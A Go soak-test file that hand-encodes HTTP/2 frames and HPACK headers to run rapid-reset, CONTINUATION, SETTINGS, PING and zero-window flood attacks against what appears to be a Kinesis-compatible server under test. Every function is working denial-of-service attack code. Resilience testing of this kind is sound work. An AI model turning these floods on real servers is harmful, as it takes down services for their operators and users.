package soak_test

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

// The frames of HTTP/2 that the attacks are made of, and their flags.
const (
	frameData         = 0x0
	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	framePing         = 0x6
	frameContinuation = 0x9

	flagEndStream  = 0x1
	flagEndHeaders = 0x4

	http2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	settingWindow = 0x4 // INITIAL_WINDOW_SIZE
	cancelStream  = 0x8 // the error code CANCEL
)

// frame appends a frame.
func frame(dst []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	dst = append(dst, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	dst = binary.BigEndian.AppendUint32(dst, stream)
	return append(dst, payload...)
}

// fields encodes the head of a request without compressing anything.
func fields(r *http.Request, length int) []byte {
	var b []byte
	add := func(name, value string) {
		b = append(b, 0) // a literal with a new name that is not to be kept
		b = appendText(appendText(b, name), value)
	}
	add(":method", r.Method)
	add(":scheme", "http")
	add(":authority", r.URL.Host)
	add(":path", "/")
	add("content-length", strconv.Itoa(length))
	for name, values := range r.Header {
		add(strings.ToLower(name), values[0])
	}
	return b
}

// appendText appends a string of HPACK.
func appendText(dst []byte, s string) []byte {
	const most = 1<<7 - 1
	if len(s) < most {
		return append(append(dst, byte(len(s))), s...)
	}
	dst = append(dst, most)
	n := len(s) - most
	for ; n >= 1<<7; n >>= 7 {
		dst = append(dst, byte(n)|1<<7)
	}
	return append(append(dst, byte(n)), s...)
}

// flood sends pieces on a connection of HTTP/2 until the server hangs up or pieces
// come to their end. What the server says is read unless deaf.
func (at target) flood(ctx context.Context, deaf bool, settings []byte, piece func(n int) []byte) (outcome string) {
	c, hangUp, err := at.dial(ctx)
	if err != nil {
		return "not connected"
	}
	defer hangUp()
	var reading sync.WaitGroup
	defer reading.Wait()
	if deaf {
		if err := c.SetReadBuffer(4 << 10); err != nil {
			return err.Error()
		}
	} else {
		reading.Go(func() { _, _ = io.Copy(io.Discard, c) }) // until hung up
	}
	outcome = pour(c, frame([]byte(http2Preface), frameSettings, 0, 0, settings), piece)
	_ = c.Close()
	return outcome
}

func pour(c net.Conn, first []byte, piece func(n int) []byte) string {
	next := first
	for n := 0; next != nil; n++ {
		if _, err := c.Write(next); err != nil {
			return "cut off"
		}
		next = piece(n)
	}
	return "spent"
}

// rapidReset opens streams and takes each back at once.
func rapidReset(ctx context.Context, at target, _ *notebook, _ int) string {
	const streams, perPiece = 20_000, 50
	body := payloadOf([]byte(`{"StreamName":"own"}`))
	head := fields(at.signed(attacker, "Kinesis_20131202.DescribeStreamSummary", body, nil), len(body.bytes))
	return at.flood(ctx, false, nil, func(n int) []byte {
		if n*perPiece >= streams {
			return nil
		}
		var b []byte
		for i := range perPiece {
			stream := uint32(2*(n*perPiece+i) + 1)
			b = frame(b, frameHeaders, flagEndHeaders, stream, head)
			b = frame(b, frameData, flagEndStream, stream, body.bytes)
			b = frame(b, frameReset, 0, stream, []byte{0, 0, 0, cancelStream})
		}
		return b
	})
}

// continuationFlood never ends the head that it begins.
func continuationFlood(ctx context.Context, at target, _ *notebook, _ int) string {
	const pieces = 2000
	field := appendText(appendText([]byte{0}, "x"), strings.Repeat("y", 8000))
	return at.flood(ctx, false, nil, func(n int) []byte {
		switch n {
		case 0:
			return frame(nil, frameHeaders, 0, 1, field)
		case pieces:
			return nil
		default:
			return frame(nil, frameContinuation, 0, 1, field)
		}
	})
}

// settingsFlood changes its mind, and does not hear that it was understood.
func settingsFlood(ctx context.Context, at target, _ *notebook, _ int) string {
	return at.repeat(ctx, frame(nil, frameSettings, 0, 0, []byte{0, settingWindow, 0, 0, 0xff, 0xff}))
}

func pingFlood(ctx context.Context, at target, _ *notebook, _ int) string {
	return at.repeat(ctx, frame(nil, framePing, 0, 0, make([]byte, 8)))
}

// repeat sends a frame that wants an answer many times, and reads none.
func (at target) repeat(ctx context.Context, once []byte) string {
	const pieces, perPiece = 1000, 500
	var piece []byte
	for range perPiece {
		piece = append(piece, once...)
	}
	return at.flood(ctx, true, nil, func(n int) []byte {
		if n == pieces {
			return nil
		}
		return piece
	})
}

// closedWindows asks for much on many streams and takes none of it.
func closedWindows(ctx context.Context, at target, _ *notebook, _ int) string {
	const streams, heldTime = 120, 10 * time.Second
	var iterator struct{ ShardIterator string }
	for iterator.ShardIterator == "" {
		// The attacker's own connection is cut off as well.
		if err := as(attacker, "http://"+at.Addr, time.Now).kinesis(ctx, "GetShardIterator", object{"StreamName": "own", "ShardId": "shardId-000000000000", "ShardIteratorType": "TRIM_HORIZON"}, &iterator); err != nil {
			rest(ctx, often)
		}
		if ctx.Err() != nil {
			return ""
		}
	}
	body := payloadOf([]byte(`{"ShardIterator":"` + iterator.ShardIterator + `"}`))
	head := fields(at.signed(attacker, "Kinesis_20131202.GetRecords", body, nil), len(body.bytes))
	return at.flood(ctx, false, []byte{0, settingWindow, 0, 0, 0, 0}, func(n int) []byte {
		switch {
		case n < streams:
			stream := uint32(2*n + 1)
			return frame(frame(nil, frameHeaders, flagEndHeaders, stream, head), frameData, flagEndStream, stream, body.bytes)
		default:
			rest(ctx, heldTime)
			return nil
		}
	})
}
